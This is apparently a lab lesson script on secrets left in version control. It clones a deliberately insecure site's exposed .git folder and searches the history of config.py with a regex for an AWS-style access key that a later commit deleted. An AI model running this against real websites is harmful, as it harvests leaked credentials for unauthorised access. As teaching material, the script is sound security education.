"""Lesson "Secrets in version control": clone the dashboard's history from its
website's exposed .git folder and find the key a later commit "removed".

Run:  python clone_history.py   (needs git on the PATH)
"""

import re
import subprocess
import sys
import tempfile

HTTP = "{{http}}"


def main() -> None:
    folder = tempfile.mkdtemp(prefix="survey-dashboard-")
    subprocess.run(
        ["git", "clone", "-q", f"{HTTP}/lab/insecure/secrets/.git", folder], check=True
    )
    log = subprocess.run(
        ["git", "-C", folder, "log", "--oneline"],
        check=True, capture_output=True, text=True,
    ).stdout
    print(log)
    history = subprocess.run(
        ["git", "-C", folder, "log", "-p", "--", "config.py"],
        check=True, capture_output=True, text=True,
    ).stdout
    found = re.search(r'ACCESS_KEY_ID = "(AKIA[A-Z0-9]{16})"', history)
    if not found:
        sys.exit("no key in the history of config.py")
    print("key in the history:", found.group(1))
    current = open(f"{folder}/config.py", encoding="utf-8").read()
    if found.group(1) in current:
        sys.exit("the key should be gone from the newest config.py")
    print("and gone from the newest config.py: deleted, but not from the history")


if __name__ == "__main__":
    main()
